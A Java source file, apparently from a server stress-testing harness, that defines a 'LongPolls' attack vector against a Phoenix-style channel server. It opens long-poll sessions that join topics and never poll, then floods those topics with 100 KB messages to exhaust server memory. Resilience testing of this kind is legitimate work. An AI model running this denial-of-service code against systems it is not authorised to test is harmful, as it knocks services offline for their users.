package io.heliodor.interop.attack;

import java.nio.ByteBuffer;
import java.time.Duration;
import java.util.Collections;
import java.util.List;
import java.util.Set;

/**
 * Sessions that poll join a topic and are never polled again, while nearly as much is broadcast to it as may wait for each.
 * When they have got it, others follow.
 *
 * @param sessions that begin together
 * @param topics among which they are spread
 */
record LongPolls(int sessions, int topics) implements AttackVector {
    private static final Duration FILLED = Duration.ofSeconds(2);
    private static final Duration INTERVAL = Duration.ofSeconds(3);
    private static final int MESSAGES = 9;
    private static final String PAYLOAD = Frames.payload(100 << 10);

    @Override
    public void begin(Swarm swarm) {
        int[] used = new int[1];
        swarm.every(INTERVAL, () -> {
            int first = used[0];
            used[0] += topics;
            for (int i = 0; i < sessions; i++) {
                String topic = swarm.room(first + i % topics);
                swarm.onceRaw(client -> PollSession.open(
                        client, session -> session.post("[\"1\",\"1\",\"" + topic + "\",\"phx_join\",{}]")));
            }
            swarm.after(
                    FILLED, () -> swarm.once(Set.of(), client -> fill(client, swarm.rooms(first, topics)), () -> {}));
        });
    }

    private static void fill(Client client, List<String> rooms) {
        for (String room : rooms) {
            client.send(Frames.join(room));
            ByteBuffer whisper = Frames.push("2", room, "whisper", PAYLOAD);
            client.send(Frames.together(Collections.nCopies(MESSAGES, whisper)));
        }
    }
}
